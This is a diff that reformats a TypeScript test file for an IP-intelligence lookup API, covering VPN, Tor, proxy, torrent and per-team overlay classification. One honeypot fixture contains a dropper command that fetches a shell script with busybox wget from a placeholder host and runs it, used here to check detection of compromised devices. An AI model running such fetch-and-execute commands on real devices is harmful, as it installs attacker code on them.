@@ -17,7 +17,11 @@ async function lookup(app: TestApp, key: string, ip: string, query = '') {
 }
 
 const googlebot = (importedAt: number): IntelList => ({
-  kind: 'SEARCH_ENGINE', provider: 'GOOGLEBOT', version: '9f86d081884c7d65', imported_at: importedAt, format: 'google-prefixes',
+  kind: 'SEARCH_ENGINE',
+  provider: 'GOOGLEBOT',
+  version: '9f86d081884c7d65',
+  imported_at: importedAt,
+  format: 'google-prefixes',
   cidrs: ['66.249.64.0/27', '66.249.66.0/27', '2001:4860:4801:10::/64'],
 });
 
@@ -26,7 +30,15 @@ describe('IP intelligence through GET /api/v4/lookup/ip/{ip}', () => {
     const app = await buildTestApp(t);
     const { key } = await app.team();
     const s = Math.floor(app.clock.now() / 1000);
-    await ingest(app, 'anonymizers', { range_start: '185.159.157.0', range_end: '185.159.157.255', provider: 'NORDVPN', type: 'COMMERCIAL_VPN', timestamp: s, country_code: 'CH', asn: 62371 });
+    await ingest(app, 'anonymizers', {
+      range_start: '185.159.157.0',
+      range_end: '185.159.157.255',
+      provider: 'NORDVPN',
+      type: 'COMMERCIAL_VPN',
+      timestamp: s,
+      country_code: 'CH',
+      asn: 62371,
+    });
     const res = await lookup(app, key, '185.159.157.42');
     assert.equal(res.statusCode, 200);
     assert.deepEqual(res.json().intelligence, {
@@ -43,10 +55,20 @@ describe('IP intelligence through GET /api/v4/lookup/ip/{ip}', () => {
     const { key } = await app.team();
     const s = Math.floor(app.clock.now() / 1000);
     await app.stores.lists.put(googlebot(s));
-    await app.stores.lists.put({ kind: 'TOR_NODE', provider: 'TOR', version: '0123456789abcdef', imported_at: s, format: 'tor-bulk-exit-list', cidrs: ['185.220.101.1/32'] });
+    await app.stores.lists.put({
+      kind: 'TOR_NODE',
+      provider: 'TOR',
+      version: '0123456789abcdef',
+      imported_at: s,
+      format: 'tor-bulk-exit-list',
+      cidrs: ['185.220.101.1/32'],
+    });
     await app.refreshLists();
     const bot = (await lookup(app, key, '66.249.66.1')).json().intelligence;
-    assert.deepEqual([bot.categories, bot.providers], [['SEARCH_ENGINE'], [{ provider: 'GOOGLEBOT', type: 'SEARCH_ENGINE', last_seen: s }]]);
+    assert.deepEqual(
+      [bot.categories, bot.providers],
+      [['SEARCH_ENGINE'], [{ provider: 'GOOGLEBOT', type: 'SEARCH_ENGINE', last_seen: s }]],
+    );
     assert.ok(bot.risk_score <= 10);
     const tor = (await lookup(app, key, '185.220.101.1')).json().intelligence;
     assert.deepEqual([tor.categories, tor.risk_score], [['TOR_NODE'], 60]);
@@ -61,11 +83,25 @@ describe('IP intelligence through GET /api/v4/lookup/ip/{ip}', () => {
     const now = app.clock.now();
     const s = Math.floor(now / 1000);
     await ingest(app, 'torrents', {
-      info_hash: 'a'.repeat(40), name: 'ubuntu.iso', magnet_uri: `magnet:?xt=urn:btih:${'a'.repeat(40)}`, total_size: 10, piece_length: 1, file_count: 1,
-      files: [{ path: 'ubuntu.iso', length: 10 }], peers: [{ ip: '73.12.34.56', port: 51413, source: 'DHT', encrypted: true }], timestamp: s,
+      info_hash: 'a'.repeat(40),
+      name: 'ubuntu.iso',
+      magnet_uri: `magnet:?xt=urn:btih:${'a'.repeat(40)}`,
+      total_size: 10,
+      piece_length: 1,
+      file_count: 1,
+      files: [{ path: 'ubuntu.iso', length: 10 }],
+      peers: [{ ip: '73.12.34.56', port: 51413, source: 'DHT', encrypted: true }],
+      timestamp: s,
     });
     const command = Buffer.from('shell:cd /data/local/tmp; busybox wget http://203.0.113.9/w.sh; sh w.sh');
-    await ingest(app, 'honeypot_adb', { session: 'abc123', sequential_id: 1, command: command.toString('base64'), hash: createHash('sha256').update(command).digest('hex'), timestamp: now, source_ip: '198.51.100.7' });
+    await ingest(app, 'honeypot_adb', {
+      session: 'abc123',
+      sequential_id: 1,
+      command: command.toString('base64'),
+      hash: createHash('sha256').update(command).digest('hex'),
+      timestamp: now,
+      source_ip: '198.51.100.7',
+    });
     assert.deepEqual((await lookup(app, key, '73.12.34.56')).json().intelligence.behavior, ['TORRENTING']);
     const dropper = (await lookup(app, key, '198.51.100.7')).json().intelligence;
     assert.deepEqual(dropper.behavior, ['COMPROMISED_DEVICE', 'MALICIOUS_TRAFFIC']);
@@ -76,27 +112,56 @@ describe('IP intelligence through GET /api/v4/lookup/ip/{ip}', () => {
     const app = await buildTestApp(t);
     const { key } = await app.team();
     const s = Math.floor(app.clock.now() / 1000);
-    await ingest(app, 'proxies', { ip: '109.176.45.49', provider: 'BRIGHTDATA', type: 'RESIDENTIAL_PROXY', timestamp: s, country_code: 'US', asn: 16276 });
+    await ingest(app, 'proxies', {
+      ip: '109.176.45.49',
+      provider: 'BRIGHTDATA',
+      type: 'RESIDENTIAL_PROXY',
+      timestamp: s,
+      country_code: 'US',
+      asn: 16276,
+    });
     assert.deepEqual((await lookup(app, key, '109.176.45.49')).json().intelligence.categories, ['RESIDENTIAL_PROXY']);
     app.clock.advance(90 * DAY_MS + 1000);
-    assert.deepEqual((await lookup(app, key, '109.176.45.49')).json().intelligence, { risk_score: 0, behavior: [], categories: [], devices: [], providers: [] });
+    assert.deepEqual((await lookup(app, key, '109.176.45.49')).json().intelligence, {
+      risk_score: 0,
+      behavior: [],
+      categories: [],
+      devices: [],
+      providers: [],
+    });
   });
 
   it('should rebuild the index from the feed log at start', async (t) => {
     const first = await buildTestApp(t);
     const s = Math.floor(first.clock.now() / 1000);
-    await ingest(first, 'proxies', { ip: '109.176.45.49', provider: 'OXYLABS', type: 'DATACENTER_PROXY', timestamp: s, country_code: 'US', asn: 16276 });
+    await ingest(first, 'proxies', {
+      ip: '109.176.45.49',
+      provider: 'OXYLABS',
+      type: 'DATACENTER_PROXY',
+      timestamp: s,
+      country_code: 'US',
+      asn: 16276,
+    });
     // A second app on the same stores (the restart) replays the durable log.
     const second = await buildTestApp(t, { stores: first.stores, clock: first.clock });
     const { key } = await second.team();
-    assert.deepEqual((await lookup(second, key, '109.176.45.49')).json().intelligence.providers, [{ provider: 'OXYLABS', type: 'DATACENTER_PROXY', last_seen: s }]);
+    assert.deepEqual((await lookup(second, key, '109.176.45.49')).json().intelligence.providers, [
+      { provider: 'OXYLABS', type: 'DATACENTER_PROXY', last_seen: s },
+    ]);
   });
 
   it('should add evidence with explain=true at the same price, and refuse anything but true or false', async (t) => {
     const app = await buildTestApp(t);
     const { key } = await app.team({ credits: 10 });
     const s = Math.floor(app.clock.now() / 1000);
-    await app.stores.lists.put({ kind: 'TOR_NODE', provider: 'TOR', version: '0123456789abcdef', imported_at: s - 60, format: 'tor-bulk-exit-list', cidrs: ['185.220.101.1/32'] });
+    await app.stores.lists.put({
+      kind: 'TOR_NODE',
+      provider: 'TOR',
+      version: '0123456789abcdef',
+      imported_at: s - 60,
+      format: 'tor-bulk-exit-list',
+      cidrs: ['185.220.101.1/32'],
+    });
     await app.refreshLists();
     const plain = await lookup(app, key, '185.220.101.1', '?explain=false');
     assert.equal(plain.statusCode, 200);
@@ -106,13 +171,29 @@ describe('IP intelligence through GET /api/v4/lookup/ip/{ip}', () => {
     assert.equal(res.headers['x-credits-remaining'], '8');
     const body = res.json();
     assert.deepEqual(Object.keys(body), ['ip', 'network', 'location', 'intelligence', 'evidence']);
-    const listSource = { source: 'list', kind: 'TOR_NODE', provider: 'TOR', version: '0123456789abcdef', format: 'tor-bulk-exit-list', imported_at: s - 60, first_seen: s - 60, last_seen: s - 60, count: 1 };
+    const listSource = {
+      source: 'list',
+      kind: 'TOR_NODE',
+      provider: 'TOR',
+      version: '0123456789abcdef',
+      format: 'tor-bulk-exit-list',
+      imported_at: s - 60,
+      first_seen: s - 60,
+      last_seen: s - 60,
+      count: 1,
+    };
     assert.deepEqual(body.evidence, {
       categories: [{ category: 'TOR_NODE', sources: [listSource] }],
       providers: [{ provider: 'TOR', type: 'TOR_NODE', sources: [listSource] }],
       behavior: [],
       devices: [],
-      risk: { score: 60, category: { value: 60, from: 'TOR_NODE' }, behavior: { value: 0, from: null }, volume: { value: 0, observations: 0 }, benign_cap: false },
+      risk: {
+        score: 60,
+        category: { value: 60, from: 'TOR_NODE' },
+        behavior: { value: 0, from: null },
+        volume: { value: 0, observations: 0 },
+        benign_cap: false,
+      },
     });
     for (const bad of ['maybe', '1', 'TRUE', '']) {
       const r = await lookup(app, key, '185.220.101.1', `?explain=${bad}`);
@@ -145,9 +226,19 @@ describe('Per-team intelligence overlays', () => {
     assert.deepEqual(seen!.categories, ['BOTNET']);
     const other = (await lookup(app, b.key, '203.0.113.77')).json();
     assert.deepEqual(other.intelligence, { risk_score: 0, behavior: [], categories: [], devices: [], providers: [] });
-    const batch = await app.http.inject({ method: 'POST', url: '/api/v4/lookup/ips', headers: { 'x-api-key': b.key }, payload: { ips: ['203.0.113.77'] } });
+    const batch = await app.http.inject({
+      method: 'POST',
+      url: '/api/v4/lookup/ips',
+      headers: { 'x-api-key': b.key },
+      payload: { ips: ['203.0.113.77'] },
+    });
     assert.deepEqual(batch.json().results[0].intelligence.categories, []);
-    const batchA = await app.http.inject({ method: 'POST', url: '/api/v4/lookup/ips', headers: { 'x-api-key': a.key }, payload: { ips: ['203.0.113.77'] } });
+    const batchA = await app.http.inject({
+      method: 'POST',
+      url: '/api/v4/lookup/ips',
+      headers: { 'x-api-key': a.key },
+      payload: { ips: ['203.0.113.77'] },
+    });
     assert.deepEqual(batchA.json().results[0].intelligence.categories, ['BOTNET']);
     assert.equal(await overlays.clear('overlay-a'), 1);
     await app.refreshLists();
